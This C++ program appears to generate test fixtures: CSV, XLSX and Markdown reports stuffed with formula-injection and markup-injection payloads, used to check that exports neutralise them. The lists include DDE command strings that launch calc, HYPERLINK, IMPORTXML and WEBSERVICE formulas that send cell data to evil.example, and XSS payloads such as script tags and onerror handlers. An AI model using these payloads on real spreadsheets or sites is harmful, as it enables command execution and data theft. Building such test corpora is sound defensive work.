// office_samples FOLDER: reports full of payloads, for office_test.py to open in other programs.
//
//   formulas.csv, formulas_raw.csv, formulas.xlsx   5,000 posts that try to be formulas
//   markup.md                                       10,000 posts that try to be markup
//   payloads.json   {"formulas": [{"raw", "shown"}], "markup": [...]}: in the order of the posts

#include <iostream>

#include "store/base/file.hpp"
#include "store/base/json_text.hpp"
#include "store/base/terminal_text.hpp"
#include "tests/analyze/formats_report.hpp"

using namespace earshot;

namespace {

using Words = std::vector<std::string>;

/// The first `count` of all combinations, each part of the payload changing as fast as it can.
Words combined(const Words& before, const Words& bodies, const Words& after, std::size_t count) {
  Words all;
  for (std::size_t i = 0; all.size() < count; ++i) {
    const auto rest = i / bodies.size();
    all.push_back(before[rest % before.size()] + bodies[i % bodies.size()] +
                  after[rest / before.size() % after.size()]);
  }
  return all;
}

Words formulas() {
  return combined(
      {"=",      "+",  "-",       "@",       "\t=", "\r=", "\n=", "\uFF1D", "\uFF0B", "\uFF0D",
       "\uFF20", " =", "\u00A0=", "\uFEFF=", "'=",  "\"=", ",=",  ";=",     "\x01=",  "\u200B="},
      {"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example/?\"&A1,\"y\")",
       "IMPORTXML(\"http://evil.example\",\"//a\")", "WEBSERVICE(\"http://evil.example\")",
       "SUM(1,2)", "DDE(\"cmd\";\"/C calc\";\"x\")", "2+5+cmd|' /C calc'!A0", "A1", "1e3", "-1",
       "{1,2}", "RAND()", "1%", "NOW()", "\"x\"&\"y\"", "'Summary'!A1", "(1)"},
      {"", ",x", ";x", "\n=1+1", "\"", "|", "\t=1", " ", "\r\n=1", "'", ")", "\\", ",\"=1\"",
       "&A1"},
      5'000);
}

Words markup() {
  return combined({"",    "`",     "``",   "```\n", "\\", "\\\\", "|",  "\\|", "]",    "> ", "- ",
                   "1. ", "     ", "<!--", "&lt;",  "*",  "**",   "~~", "[",   "\n\n", "@"},
                  {"<script>alert(1)</script>",
                   "<img src=//evil.example/x onerror=alert(1)>",
                   "<svg/onload=alert(1)>",
                   "<a href=\"javascript:alert(1)\">x</a>",
                   "![x](http://evil.example/i.png)",
                   "![x][r]\n\n[r]: http://evil.example/i.png",
                   "[x](http://evil.example)",
                   "[x](javascript:alert(1))",
                   "<http://evil.example>",
                   "http://evil.example/",
                   "https://evil.example?a=b",
                   "www.evil.example",
                   "WwW.evil.example",
                   "ftp://evil.example",
                   "a@evil.example",
                   "mailto:a@evil.example",
                   "xmpp:a@evil.example/x",
                   "<a@evil.example>",
                   "&#60;script&#62;alert(1)",
                   "<!-- x -->",
                   "<![CDATA[x]]>",
                   "<?php x ?>",
                   "<!DOCTYPE x>",
                   "</td></tr></table><script>x</script>",
                   "[^1]\n\n[^1]: http://evil.example",
                   "<iframe src=http://evil.example>",
                   "![](data:text/html,x)",
                   "HTTP://EVIL.example",
                   "# h\n===\n---",
                   "| a |\n|---|\n| b |"},
                  {"", "`", "```", "\\", "|", "](http://evil.example)", ")", ">", "*", "**", "~~",
                   "-->", "\n", "\n\n    x", "\x1b[31m", "\u202E", "&amp;", "@"},
                  10'000);
}

void append_payloads(std::string& out, const Words& payloads) {
  out += '[';
  for (const auto& payload : payloads) {
    if (&payload != payloads.data()) out += ',';
    out += "\n{\"raw\": ";
    append_json_string(out, payload);
    out += ", \"shown\": ";
    append_json_string(out, printable(payload));
    out += '}';
  }
  out += ']';
}

/// A report with each payload wherever texts by others may stand.
Report full_of(const Words& payloads) {
  auto report = test::formats_report();
  report.posts.clear();
  for (std::size_t i = 0; i < payloads.size(); ++i)
    report.posts.push_back({.id = "test:" + std::to_string(i),
                            .at = "2026-08-01T02:00:00Z",
                            .at_shown = "1 Aug 2026",
                            .author = payloads[i],
                            .channel = payloads[i],
                            .text = payloads[i],
                            .url = payloads[i]});
  for (std::size_t i = 0; i < 200; ++i) {
    const auto& payload = payloads[i * 17 % payloads.size()];
    report.notes.push_back(payload);
    report.highlights.push_back(payload);
    report.channels.push_back({payload, i, false});
    report.tables[0].rows.push_back({{payload, ""}, {"-1.5", "-1.5"}, {"-0.3", "-0.3"}});
    report.metrics[0].breakdown.push_back({.dimension = payload,
                                           .name = payload,
                                           .unit = "points",
                                           .value = "-" + std::to_string(i) + ".5",
                                           .shown = "-" + std::to_string(i) + ".5 points"});
  }
  return report;
}

bool write(const std::string& path, const Report& report, const std::string& format,
           const RenderOptions& options) {
  const auto bytes = render_report(report, format, options);
  if (!bytes) {
    std::cerr << bytes.error().message << '\n';
    return false;
  }
  const auto written = write_file(path, *bytes);
  if (!written) std::cerr << written.error().message << '\n';
  return written.has_value();
}

}  // namespace

int main(int count, char** words) {
  if (count != 2) {
    std::cerr << "usage: office_samples FOLDER\n";
    return 2;
  }
  const std::string folder = words[1];
  std::string payloads = "{\"formulas\": ";
  append_payloads(payloads, formulas());
  payloads += ", \"markup\": ";
  append_payloads(payloads, markup());
  payloads += "}\n";
  const auto tables = full_of(formulas());
  const bool done = write_file(folder + "/payloads.json", payloads).has_value() &&
                    write(folder + "/formulas.csv", tables, "csv", {}) &&
                    write(folder + "/formulas_raw.csv", tables, "csv", {.raw_csv = true}) &&
                    write(folder + "/formulas.xlsx", tables, "xlsx", {}) &&
                    write(folder + "/markup.md", full_of(markup()), "md", {});
  return done ? 0 : 1;
}
